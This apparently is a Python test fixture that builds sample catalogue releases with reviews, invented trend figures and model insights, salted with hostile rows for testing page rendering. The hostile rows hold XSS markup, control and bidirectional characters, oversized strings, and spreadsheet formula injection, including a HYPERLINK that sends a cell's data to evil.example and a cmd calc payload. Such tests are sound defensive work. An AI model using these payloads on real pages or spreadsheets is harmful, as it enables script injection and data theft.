"""Releases to look at the page with: one with reviews, made-up figures of popularity and a model's insights, among them rows that mean harm."""

from __future__ import annotations

import datetime as dt
import json
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from trending.catalogue.content import CatalogueContent
from trending.catalogue.write import write_catalogue
from trending.insights.schema import Insights, Provenance, Quote, Tag, Theme
from trending.releases import ReleaseStore
from trending.releases.bundle import CATALOGUE_FILE, ENCODER_DIR, VECTORS_FILE, Release, seal_bundle
from trending.releases.manifest import read_manifest

MODEL = "openai/sample-model"
LAST_DAY = dt.date(2026, 11, 22)
ATTACK = """<script>window.pwned=1</script><img src=x onerror="window.pwned=2"><a href="javascript:window.pwned=3">x</a>{{value}}${window.pwned=4}</textarea></template>"""
HOSTILE: tuple[dict[str, Any], ...] = (
    {"title_id": "bad:markup", "title": ATTACK, "plot": f"A haunted house. {ATTACK}", "url": "javascript:window.pwned=5", "data_licence": ATTACK, "source": "bad"},
    {"title_id": "bad:control", "title": "\x1b[31mRed\x00 \u202egnihton\u202c\r\n\x07 title", "plot": "Bells\x07 and \u2066whistles\u2069 in a haunted house.\x9b", "source": "bad"},
    {"title_id": "bad:formula", "title": '=HYPERLINK("http://evil.example/?"&A1,"x")', "plot": "@SUM(1+1)*cmd|' /C calc'!A0 in a haunted house.", "source": "bad"},
    {"title_id": "bad:huge", "title": "Endless" * 3_000, "plot": "haunted house " + "word" * 250_000, "source": "bad"},
    {"title_id": "bad:'\"><b>&?#%", "title": "Odd id", "plot": "The id of it has quotes & marks, in a haunted house.", "source": "bad"},
)  # fmt: skip


def publish_plain(home: Path, bundle: Path, titles: pd.DataFrame) -> ReleaseStore:
    """Publish a release as the product's own starter one is: titles and plots, nothing else."""
    return _publish(home, bundle, _make_content(titles, Release(bundle, read_manifest(bundle))))


def publish_sample(home: Path, bundle: Path, titles: pd.DataFrame) -> ReleaseStore:
    """Publish a release of some titles with reviews, trends and insights, and rows that mean harm."""
    titles = _add_hostile(titles)
    ids = titles["title_id"].tolist()
    content = _make_content(titles, Release(bundle, read_manifest(bundle)))
    return _publish(home, bundle, replace(content, reviews=_make_reviews(ids), trends=_make_trends(ids), insights=_make_insights(ids)))


def _publish(home: Path, bundle: Path, content: CatalogueContent) -> ReleaseStore:
    directory = home / "sample-bundle"
    shutil.copytree(bundle, directory)
    (directory / CATALOGUE_FILE).unlink()
    # Its vectors are of other rows.
    (directory / VECTORS_FILE).unlink(missing_ok=True)
    shutil.rmtree(directory / ENCODER_DIR, ignore_errors=True)
    write_catalogue(directory / CATALOGUE_FILE, content)
    created = dt.datetime(2030, 1, 1, tzinfo=dt.UTC)
    seal_bundle(directory, read_manifest(bundle).model_copy(update={"version": f"{created:%Y%m%dT%H%M%SZ}-00000000", "created": created}))
    store = ReleaseStore(str(home / "releases"), home / "cache")
    store.publish(directory)
    return store


def _add_hostile(titles: pd.DataFrame) -> pd.DataFrame:
    template = titles.iloc[0].to_dict() | {"votes": None, "genres": ["Horror"], "url": None}
    rows = [template | row | {"source_id": row["title_id"], "group_id": row["title_id"]} for row in HOSTILE]
    return pd.concat([titles, pd.DataFrame(rows, columns=titles.columns).astype(titles.dtypes)], ignore_index=True)


def _make_content(titles: pd.DataFrame, release: Release) -> CatalogueContent:
    predictor = release.predictor
    probabilities = predictor.predict_proba([predictor.prepare(plot[:2_000]) for plot in titles["plot"].fillna("")])
    return CatalogueContent(
        titles=titles,
        splits=pd.Series(["test"] * len(titles), index=titles.index),
        probabilities=probabilities,
        decisions=np.asarray(predictor.decide(probabilities)),
    )


def _make_reviews(ids: list[str]) -> pd.DataFrame:
    first = ids[0]
    texts = [
        (first, 9.0, "Still unsettling", "The crooked sets are a triumph, and the ending still stuns. A masterpiece of horror.", False),
        (first, 8.0, None, "Slow at first, but what an ending.", False),
        (first, 4.0, "He was the doctor", "The twist: the narrator is a patient himself.", True),
        ("bad:markup", 1.0, ATTACK, f"{ATTACK} and more words about it.", False),
    ]
    rows = [
        {
            "review_id": f"sample:{number}",
            "title_id": title_id,
            "source": "sample reviews",
            "author_hash": f"{number:x}",
            "rating": rating,
            "headline": headline,
            "text": text,
            "language": "en",
            "review_date": dt.date(2026, 10, number + 1),
            "spoiler": spoiler,
            "url": f"https://example.org/reviews/{number}",
            "data_licence": "CC0-1.0",
            "rights_class": "open_test",
        }
        for number, (title_id, rating, headline, text, spoiler) in enumerate(texts)
    ]
    return pd.DataFrame(rows)


def _make_trends(ids: list[str]) -> pd.DataFrame:
    ranked = [*ids[:15], "bad:markup"]
    rows = []
    for week in range(8):
        for place, title_id in enumerate(ranked):
            score = 3.2 - 0.17 * place + 0.22 * np.sin(week * 0.9 + place)
            parts = [
                {"name": "attention", "value": 1.4, "sentence": f"Sample figures: watched {90 - 3 * place},000 times last week, {12 + place} % more than the week before."},
                {"name": "freshness", "value": 0.6, "sentence": f"Sample figures: new for {place + 2} days."},
            ]  # fmt: skip
            rows.append({"as_of": LAST_DAY - dt.timedelta(weeks=7 - week), "title_id": title_id, "score": float(score), "parts": parts if week == 7 else []})
    return pd.DataFrame(rows)


def _make_insights(ids: list[str]) -> pd.DataFrame:
    quote = Quote(text="The crooked sets are a triumph", review_id="sample:0")
    made = Insights(
        summary="A sleepwalker foretells deaths at a fair of painted shadows, and a friend follows the showman behind him.",
        score=84,
        score_reasons=["Three reviews, two of them warm.", "Praised for its sets and its ending."],
        tags=[Tag(name="eerie", controlled=True, evidence=["crooked"]), Tag(name="dreamlike", controlled=False)],
        genres=["Horror", "Mystery"],
        praise=[Theme(theme="sets", quotes=[quote])],
        complaints=[Theme(theme="pace", quotes=[Quote(text="Slow at first", review_id="sample:1")])],
        provenance=Provenance(maker=MODEL, prompt="title-1", from_plot=True, from_reviews=3),
    )
    bad = made.model_copy(update={"summary": ATTACK, "score_reasons": [ATTACK], "tags": [Tag(name="<b>x</b>", controlled=False)]})
    documents = {ids[0]: made, "bad:markup": bad}
    rows = [{"title_id": one, "score": made.score, "tags": [tag.name for tag in found.tags], "document": json.dumps(found.model_dump(mode="json"))} for one, found in documents.items()]  # fmt: skip
    return pd.DataFrame(rows)
